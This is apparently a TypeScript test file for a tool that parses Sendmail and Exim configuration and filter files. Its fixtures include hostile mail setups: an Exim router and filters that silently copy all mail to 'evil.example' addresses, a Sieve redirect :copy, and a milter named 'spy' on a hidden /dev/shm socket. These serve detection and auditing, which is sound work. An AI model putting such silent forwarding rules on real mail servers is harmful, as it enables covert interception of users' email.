// Sendmail (sendmail.mc and the sendmail.cf m4 generates from it) and Exim (single file, Debian's
// split conf.d, filters, update-exim4.conf.conf) readers, on Debian's shipped files and bad input.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { parseSendmailCf, parseSendmailMc } from '../../../src/sources/mta/sendmail.js';
import { parseDebconf, parseEximConfig, parseEximFilter, parseSieveRedirects, instanceOption } from '../../../src/sources/mta/exim.js';
import { classifyMtaFile } from '../../../src/sources/mta/classify.js';
import { EXIM_CONFIG, M4, SENDMAIL_CF } from '../../support/mta-packages.js';

const MILTERS_MC = [
  "INPUT_MAIL_FILTER(`opendkim', `S=local:/run/opendkim/opendkim.sock, F=T, T=C:4m;S:4m;R:4m;E:10m')dnl",
  "MAIL_FILTER(`later', `S=inet:3333@10.0.0.9')",
  "dnl INPUT_MAIL_FILTER(`commented', `S=local:/tmp/x')",
  "define(`confINPUT_MAIL_FILTERS', `opendkim, later')dnl",
].join('\n');

test('sendmail.mc: INPUT_MAIL_FILTER, MAIL_FILTER and confINPUT_MAIL_FILTERS; dnl comments skipped', () => {
  const { config, problems } = parseSendmailMc(MILTERS_MC, 'sendmail.mc');
  assert.deepEqual(problems, []);
  assert.deepEqual(config.filters.map((f) => [f.name, f.socket, f.macro, f.ref.line]), [
    ['opendkim', 'local:/run/opendkim/opendkim.sock', 'INPUT_MAIL_FILTER', 1], ['later', 'inet:3333@10.0.0.9', 'MAIL_FILTER', 2]]);
  assert.equal(config.filters[0]!.equates['T'], 'C:4m;S:4m;R:4m;E:10m');
  assert.deepEqual(config.inputFilters, ['opendkim', 'later']);
  const bad = parseSendmailMc("INPUT_MAIL_FILTER(`x', `S=local:/a'\n", 'bad.mc');
  assert.match(bad.problems[0]!.message, /without its closing parenthesis/);
  assert.equal(bad.problems[0]!.line, 1);
});

test('sendmail.cf: X lines and O InputMailFilters', () => {
  const { config, problems } = parseSendmailCf('V10/Berkeley\nO InputMailFilters=a, b\nXa, S=unix:/var/run/a.sock, F=T\nXb, S=inet:9@localhost\nX\n', 'sendmail.cf');
  assert.deepEqual(config.filters.map((f) => [f.name, f.socket]), [['a', 'unix:/var/run/a.sock'], ['b', 'inet:9@localhost']]);
  assert.deepEqual(config.inputFilters, ['a', 'b']);
  assert.equal(problems[0]!.line, 5);
});

test("Debian's sendmail.mc, and the sendmail.cf m4 generates from it with a filter added", { skip: SENDMAIL_CF.skip || (!M4 && 'm4 is not installed') }, () => {
  const mcPath = join(SENDMAIL_CF.path, 'debian/sendmail.mc');
  const mc = readFileSync(mcPath, 'utf8');
  assert.equal(classifyMtaFile(mcPath, mc), 'sendmail-mc');
  assert.deepEqual(parseSendmailMc(mc, mcPath).config.filters, []);
  // Debian's .mc needs its generated autoconf.m4; the package's generic Linux .mc needs only cf/, run from cf/cf
  const mcText = ["include(`../m4/cf.m4')", "OSTYPE(`linux')dnl", "DOMAIN(`generic')dnl", "INPUT_MAIL_FILTER(`spy', `S=local:/dev/shm/.m.sock, F=T')dnl", "MAILER(`local')dnl", "MAILER(`smtp')dnl", ''].join('\n');
  const r = spawnSync(M4, ['-'], { input: mcText, encoding: 'utf8', cwd: join(SENDMAIL_CF.path, 'cf') });
  assert.equal(r.status, 0, r.stderr);
  const cf = r.stdout;
  assert.equal(classifyMtaFile('/evidence/generated', cf), 'sendmail-cf', 'recognised by content');
  const parsed = parseSendmailCf(cf, 'sendmail.cf');
  assert.deepEqual(parsed.problems, []);
  assert.deepEqual(parsed.config.filters.map((f) => [f.name, f.socket, f.equates['F']]), [['spy', 'local:/dev/shm/.m.sock', 'T']]);
  assert.deepEqual(parsed.config.inputFilters, ['spy']);
});

test('Exim: main options, macros, named lists, routers and transports, ACL lines, continuation, problems', () => {
  const text = [
    'FILTER_FILE = /etc/exim4/system.filter',
    'domainlist local_domains = example.org : mail.example.org',
    'system_filter = FILTER_FILE',
    'perl_startup = do \'/etc/exim4/x.pl\'',
    'this is wrong',
    'begin acl',
    'acl_check_data:',
    '  warn  set acl_m0 = ${run{/usr/local/bin/scan \\',
    '            $message_exim_id}{yes}{no}}',
    '  accept',
    'begin routers',
    'copy_all:',
    '  driver = redirect',
    '  unseen',
    '  data = spy@evil.example',
    'begin transports',
    'filtered_smtp:',
    '  driver = smtp',
    '  transport_filter = /usr/bin/strip-headers -x',
    'mda:',
    '  driver = pipe',
    '  command = "/usr/bin/procmail -d $local_part"',
    'begin nonsense',
  ].join('\n');
  const { config, problems } = parseEximConfig([{ file: 'exim.conf', text }]);
  assert.equal(config.main.find((o) => o.name === 'system_filter')!.value, '/etc/exim4/system.filter');
  assert.equal(config.main.find((o) => o.name === 'domainlist local_domains')!.value, 'example.org : mail.example.org');
  assert.deepEqual(config.instances.map((i) => [i.section, i.name]), [['acl', 'acl_check_data'], ['routers', 'copy_all'], ['transports', 'filtered_smtp'], ['transports', 'mda']]);
  const router = config.instances[1]!;
  assert.equal(instanceOption(router, 'unseen')!.value, 'true');
  assert.equal(instanceOption(config.instances[3]!, 'command')!.value, '/usr/bin/procmail -d $local_part');
  const run = config.lines.find((l) => l.text.includes('${run'));
  assert.ok(run && run.text.includes('scan $message_exim_id') && run.ref.line === 8, 'continued line joined, first line kept');
  assert.deepEqual(problems.map((p) => [p.line, p.message.slice(0, 20)]), [[5, 'not an option settin'], [23, "unknown section 'beg"]]);
});

test("Exim: Debian's exim4.conf.template and split conf.d read without problems", { skip: EXIM_CONFIG.skip }, () => {
  const tpl = readFileSync(join(EXIM_CONFIG.path, 'exim4.conf.template'), 'utf8');
  assert.equal(classifyMtaFile('/etc/exim4/exim4.conf.template', tpl), 'exim-conf');
  const r = parseEximConfig([{ file: 'exim4.conf.template', text: tpl }]);
  assert.deepEqual(r.problems, []);
  assert.ok(r.config.instances.some((i) => i.section === 'transports' && i.name === 'remote_smtp'));
  assert.ok(r.config.instances.some((i) => i.section === 'routers' && i.name === 'system_aliases'));
  assert.equal(classifyMtaFile('/etc/exim4/conf.d/router/200_exim4-config_primary', 'x'), 'exim-split');
});

test('Exim and Sieve filters: deliver, unseen deliver, pipe, save; redirect :copy', () => {
  const f = parseEximFilter('# Exim filter\nif $h_subject: contains "x" then\n  unseen deliver "a@evil.example"\nendif\npipe "/tmp/.p -x" # comment\nsave /var/mail/x\ndeliver\n', 'system.filter');
  assert.deepEqual(f.actions.map((a) => [a.verb, a.arg, a.unseen, a.ref.line]), [['deliver', 'a@evil.example', true, 3], ['pipe', '/tmp/.p -x', false, 5], ['save', '/var/mail/x', false, 6]]);
  assert.match(f.problems[0]!.message, /'deliver' without its argument/);
  assert.equal(classifyMtaFile('anything', '# Exim filter\nseen finish\n'), 'exim-filter');
  const s = parseSieveRedirects('# Sieve filter\nrequire ["copy"];\nredirect :copy "b@evil.example";\n', 'f.sieve');
  assert.deepEqual(s.map((a) => [a.arg, a.unseen, a.ref.line]), [['b@evil.example', true, 3]]);
});

test("update-exim4.conf.conf: dc_ settings, bad lines reported", () => {
  const r = parseDebconf("dc_eximconfig_configtype='internet'\ndc_other_hostnames='example.org;mail.example.org'\nnot shell\n", 'update-exim4.conf.conf');
  assert.deepEqual(r.settings.map((s) => [s.name, s.value]), [['dc_eximconfig_configtype', 'internet'], ['dc_other_hostnames', 'example.org;mail.example.org']]);
  assert.equal(r.problems[0]!.line, 3);
});
